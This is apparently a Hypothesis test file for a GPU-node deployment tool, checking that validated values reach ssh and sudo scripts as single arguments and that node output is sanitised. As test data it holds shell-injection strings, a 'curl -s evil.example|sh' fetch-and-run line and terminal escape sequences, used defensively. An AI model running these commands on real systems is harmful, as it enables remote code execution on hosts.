"""Property-based tests (Hypothesis) of what the operator's values become on a node, and of what a node's text
becomes on the operator's side.

- Any value the validators accept renders an agent.yaml that parses back (yaml.safe_load) to that same data,
  as the test spells it out itself, and whose first line still names the node (remove-agent checks it).
- For any string, a validator refuses it, or it reaches the node as data: the command sshd hands the node's
  shell, split by a real shell, gives the script exactly that string as one argument.
- ``printable`` leaves no unprintable character, is the identity on printable text, and changes nothing the
  second time; whatever a node prints, the parsers return only printable values.
"""

import shlex
import shutil
import subprocess

import pytest
import yaml
from hypothesis import HealthCheck, assume, example, given, settings
from hypothesis import strategies as st

from llmgw_pulumi import validate
from llmgw_pulumi.config.specs import AgentSettings, Problems, build
from llmgw_pulumi.nodestate import commands as remote
from llmgw_pulumi.nodestate import desired, facts
from llmgw_pulumi.nodestate.commands import Script
from llmgw_pulumi.text import printable
from tests.unit.install_scripts import agent_install

settings.register_profile("llmgw", deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much])
settings.load_profile("llmgw")

HOSTILE = ["\n", "\r", "\x1b[2J", "\x00", "\u2028", "\u202e", " ", "'", '"', "\\", "$(id)", "`id`", ";", "|", "&", "*",
           "#", ": ", "- ", "{", "}", "[", "]", ",", "!", "%", "@", "&a", "*a", "? ", "~", "\t", "--", "-", ".", ".."]
"""What a hostile or careless value holds: shell syntax, YAML syntax, control characters."""
junk = st.lists(st.sampled_from(HOSTILE), max_size=4).map("".join) | st.text(max_size=8)


def near(pattern):
    """Strings close to what ``pattern`` accepts: a match with hostile text before, after or instead of it."""
    good = st.from_regex(pattern, fullmatch=True)
    return good | st.builds(lambda a, g, b: a + g + b, junk, good, junk) | st.text()


def accepted(validator, strategy):
    return strategy.filter(lambda v: validator(v) is None)


node_ids = near(validate._LABEL)
paths = st.builds(lambda parts: "/" + "/".join(parts), st.lists(st.text(min_size=1, max_size=12) | junk, min_size=1, max_size=4))
any_text = st.text() | junk | paths
hostnames = st.lists(st.from_regex(r"\A[A-Za-z0-9]([A-Za-z0-9-]{0,8}[A-Za-z0-9])?\Z"), min_size=1, max_size=4).map(".".join)
ips = st.ip_addresses().map(str)
servers = st.builds(lambda h, p: f"{h}:{p}", hostnames | ips.filter(lambda a: ":" not in a), st.integers(1, 65535)) | \
    st.builds(lambda h, p: f"[{h}]:{p}", st.ip_addresses(v=6).map(str), st.integers(1, 65535)) | junk


def engine_path(value):
    return validate.abs_path(value, "engine path", on_node=True)


def fabrics():
    fabric = st.fixed_dictionaries({"name": accepted(validate.fabric_name, near(validate._LABEL)),
                                    "hcas": st.lists(accepted(validate.hca, near(validate._HCA)), min_size=1, max_size=3)})
    return st.lists(fabric, max_size=3, unique_by=lambda f: f["name"])


good_paths = accepted(engine_path, paths)
settings_inputs = st.fixed_dictionaries(
    {"servers": st.lists(accepted(validate.server, servers), min_size=1, max_size=3, unique=True)},
    optional={
        "mgmt_addr": accepted(validate.address, hostnames | ips | junk),
        "mgmt_interface": accepted(validate.interface, near(validate._IFNAME)),
        "fabrics": fabrics(),
        "discovery": st.fixed_dictionaries({}, optional={"nvidia_smi": good_paths,
                                                         "ib_root": good_paths | st.just("/sys/class/infiniband")}),
        "engines": st.fixed_dictionaries({}, optional={"llamacpp": good_paths.map(lambda p: {"bin": p}),
                                                       "vllm": good_paths.map(lambda p: {"bin": p}),
                                                       "sglang": good_paths.map(lambda p: {"python": p})}),
    },
)


def parses_to(text, data):
    try:
        return yaml.safe_load(text) == data
    except yaml.YAMLError:
        return False


def valid_settings(props):
    problems = Problems("n")
    AgentSettings.collect(props, problems)
    return not problems.items


def expected_document(node_id, props, hostname):
    """agent.yaml's data, spelled out here from the inputs (SPEC step 6), not by the code under test."""
    doc = {"server": props["servers"][0]} if len(props["servers"]) == 1 else {"servers": props["servers"]}
    doc["tls"] = {"ca": "/etc/llmgw/ca.pem", "cert": "/etc/llmgw/agent.pem", "key": "/etc/llmgw/agent-key.pem"}
    if hostname != node_id:
        doc["node_id"] = node_id
    for key in ("mgmt_addr", "mgmt_interface"):
        if props.get(key):
            doc[key] = props[key]
    if props.get("fabrics"):
        doc["fabrics"] = props["fabrics"]
    discovery = {k: v for k, v in props.get("discovery", {}).items() if not (k == "ib_root" and v == "/sys/class/infiniband")}
    if discovery:
        doc["discovery"] = discovery
    if props.get("engines"):
        doc["engines"] = {name: props["engines"][name] for name in ("llamacpp", "vllm", "sglang") if name in props["engines"]}
    return doc


@settings(max_examples=80)
@given(node_id=accepted(validate.node_id, node_ids), props=settings_inputs, hostname=st.text(min_size=1) | node_ids)
@example(node_id="gpu-01", props={"servers": ["cp1.example.net:7443"], "engines": {"vllm": {"bin": "/opt/a: b #c"}}},
         hostname="h")
def test_any_accepted_settings_render_an_agent_yaml_that_parses_back_to_the_same_data(node_id, props, hostname):
    assume(valid_settings(props))
    text = desired.render_agent_yaml(node_id, build(AgentSettings, props), hostname)
    assert parses_to(text, expected_document(node_id, props, hostname)), text
    assert text.startswith(desired.config_owner_prefix(node_id)), "remove-agent finds the node id on the first line"
    assert text.isascii(), "non-ASCII is escaped by the emitter, never written raw"


def test_the_property_sees_a_broken_rendering():
    """Positive control: a value spliced into YAML text unquoted does not parse back to itself."""
    path = "/opt/a: b #c"
    assert validate.abs_path(path) is None
    assert not parses_to(f"engines:\n  vllm:\n    bin: {path}\n", {"engines": {"vllm": {"bin": path}}})
    assert not parses_to("bin: /opt/x #c\n", {"bin": "/opt/x #c"})


# --------------------------------------------------------------------------- values reach the node as data

ARGV = 'printf "%s\\0" "$@"'
"""Stands in for a script's text: prints each argument it was given, NUL-terminated."""
SHELLS = [s for s in ("sh", "bash", "dash") if shutil.which(s)]


def node_argv(script, shell):
    """The arguments the script receives on the node: the command sshd runs, parsed by the login ``shell``."""
    command = Script(ARGV, script.args).command(sudo=False)
    out = subprocess.run([shell, "-c", command], capture_output=True, check=True).stdout
    return [a.decode() for a in out.split(b"\0")[:-1]]


def sudo_argv(script):
    argv = shlex.split(script.command(sudo=True))
    assert argv[:6] == ["sudo", "-n", "--", "sh", "-c", script.text] and argv[6] == "sh"
    return argv[7:]


def on_node(validator, make, value, reference):
    """``value`` is refused, or each of the node's shells hands the script exactly ``make(value).args``, with
    ``value`` one of them, whole. ``reference``: another value the validator accepts; the script's text is the
    same for both (a value is never spliced into the text)."""
    assert validator(reference) is None
    if validator(value) is not None:
        return
    script = make(value)
    assert value in script.args
    assert script.text == make(reference).text, "a value is never spliced into the script text"
    assert sudo_argv(script) == list(script.args)
    for shell in SHELLS:
        assert node_argv(script, shell) == list(script.args), shell


@settings(max_examples=60)
@given(any_text)
@example("/opt/x; touch /tmp/pwned")
@example("/opt/$(id)/`id`/'\"\\ x")
def test_any_engine_path_is_refused_or_reaches_the_probe_as_one_argument(value):
    on_node(engine_path, lambda v: remote.probe_engines((("vllm", v),)), value, "/opt/vllm/bin/vllm")


@settings(max_examples=60)
@given(any_text)
def test_any_discovery_path_is_refused_or_reaches_the_probe_as_one_argument(value):
    on_node(engine_path, lambda v: remote.probe_engines((), nvidia_smi=v), value, "/usr/bin/nvidia-smi")
    on_node(engine_path, lambda v: remote.probe_engines((), ib_root=v), value, "/sys/class/infiniband")


@settings(max_examples=60)
@given(node_ids | any_text)
def test_any_node_id_is_refused_or_reaches_the_scripts_as_one_argument(value):
    on_node(validate.node_id, remote.make_node_key, value, "gpu-01")
    if validate.node_id(value) is None:
        assert sudo_argv(remote.remove_agent(value))[3] == desired.config_owner_prefix(value)


@settings(max_examples=60)
@given(near(validate._VERSION) | near(validate.RELEASE_TAG))
def test_any_version_is_refused_or_reaches_the_installer_as_one_argument(value):
    on_node(validate.version, lambda v: agent_install(version=v, release_url="https://r.example/x"), value, "v1.2.3")


@given(st.text())
def test_a_refused_value_is_refused_by_name_with_a_fix(value):
    for validator in (validate.node_id, validate.address, validate.server, validate.version, validate.interface,
                      validate.hca, validate.fabric_name, validate.ssh_user, validate.hop, engine_path):
        problem = validator(value)
        assert problem is None or (isinstance(problem[0], str) and problem[1])
        if problem is not None and value:
            assert problem[0].isprintable(), "a refusal shows the value escaped"


@given(st.text())
def test_what_a_validator_accepts_holds_no_line_break_or_control_character(value):
    for validator in (validate.node_id, validate.address, validate.server, validate.version, validate.interface,
                      validate.hca, validate.fabric_name, validate.ssh_user, validate.hop, engine_path,
                      validate.local_path):
        if validator(value) is None:
            assert value.isprintable(), (validator, value)


# --------------------------------------------------------------------------- what a node prints

@given(st.text())
@example("gpu-01\x1b]0;owned\x07")
def test_printable_leaves_nothing_unprintable_and_changes_nothing_the_second_time(text):
    shown = printable(text)
    assert shown.isprintable()
    assert printable(shown) == shown
    kept = printable(text, keep="\n")
    assert kept.replace("\n", "").isprintable() and kept.count("\n") == text.count("\n")


@given(st.text().filter(str.isprintable))
def test_printable_is_the_identity_on_printable_text(text):
    assert printable(text) == text


def strings_in(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for k, v in value.items():
            yield from strings_in(k)
            yield from strings_in(v)
    elif isinstance(value, (list, tuple)):
        for v in value:
            yield from strings_in(v)
    elif hasattr(value, "__dataclass_fields__"):
        for name in value.__dataclass_fields__:
            yield from strings_in(getattr(value, name))


node_line_parts = st.lists(st.sampled_from(["hostname", "arch", "file", "engine", "smi", "gpu", "hca", "text", "ok",
                                            "fails", "vllm", "/p", "600 root root", "-", "trust"]) | st.text(max_size=12),
                           min_size=1, max_size=5).map("\t".join)
node_output = st.lists(node_line_parts, max_size=8).map("\n".join) | st.text()


@settings(max_examples=200)
@given(node_output)
@example("hostname\tgpu\x1b[31m-01\u202e\narch\tamd64\x07\nsmi\tfails\t/usr/bin/nvidia-smi\x1b[2J\t\x1b]0;x\x07\n"
         "hca\tmlx5_0\x9b\ngpu\t0, GPU-1, \"NVIDIA\x1b[5m H200\", 143771, 0, 580, 00:01, 9.0\n")
@example("file\t/p\thostname\tx\nfile\t/q\t9 root root\tx\nfile\t/r\t600 root\tx\ntext\t/p\t\u00a1\ntext\t/q\ta\n")
@example("GPU x: NVIDIA H200 (UUID: GPU-1)\nGPU : y\nsmi\tok\t/x\t\ngpu\t0, u, n, , 0, 580, 00:01, 9.0\ngpu\tx, u, n, 1, 0, 5, 0, 9\n")
def test_whatever_a_node_prints_every_value_parsed_from_it_is_printable(text):
    values = [facts.parse_survey(text), facts.parse_engine_probes(text, (("vllm", "/opt/vllm"),)),
              facts.key_values(text), facts.parse_gpu_list(text), facts.parse_inventory(text)]
    for value in strings_in(values):
        assert value.isprintable(), value


@given(st.text(min_size=1))
def test_a_text_file_read_from_a_node_keeps_only_its_tabs_and_newlines(content):
    import base64

    survey = f"text\t/etc/llmgw/agent.yaml\t{base64.b64encode(content.encode(errors='surrogatepass')).decode()}\n"
    seen = facts.parse_survey(survey).texts["/etc/llmgw/agent.yaml"]
    assert seen.replace("\n", "").replace("\t", "").isprintable()
    if content.isprintable():
        assert seen == content


@settings(max_examples=200)
@given(st.text(min_size=1))
@example("/usr/bin/nvidia-smi; curl -s evil.example|sh #")
def test_a_hint_runs_what_the_node_named_as_one_argument_whatever_it_named(path):
    """The node names its nvidia-smi path (found on its PATH): the hint's command holds it as one word on the
    operator's side and, once ssh joins the words, as one argument on the node."""
    inv = facts.parse_inventory(f"smi\tfails\t{path}\tno devices\n")
    assume(inv.smi_path)
    (problem,) = facts.inventory_problems(inv, [], "/sys/class/infiniband", "gpu-01", "deploy@10.0.0.1")
    command, sep, _ = problem["hint"].partition("; usually")
    assert sep
    local = shlex.split(command)
    assert local[:2] == ["ssh", "deploy@10.0.0.1"]
    assert shlex.split(" ".join(local[2:])) == [inv.smi_path]


@pytest.mark.parametrize("status", ["not-executable", "fails"])
@given(path=accepted(engine_path, any_text))
def test_an_engine_hint_quotes_the_engine_path_for_both_shells(status, path):
    (probe,) = facts.parse_engine_probes(f"engine\tvllm\t{status}\tdetail\n", (("vllm", path),))
    hint = facts.engine_problem(probe, "gpu-01", "deploy@10.0.0.1")["hint"]
    command = hint.removeprefix("usually a missing shared library: ").removesuffix(" | grep 'not found'")
    local = shlex.split(command)
    assert local[:2] == ["ssh", "deploy@10.0.0.1"]
    remote_argv = shlex.split(" ".join(local[2:]))
    assert remote_argv[-1] == path and remote_argv[:-1] in (["sudo", "chmod", "0755"], ["ldd"])
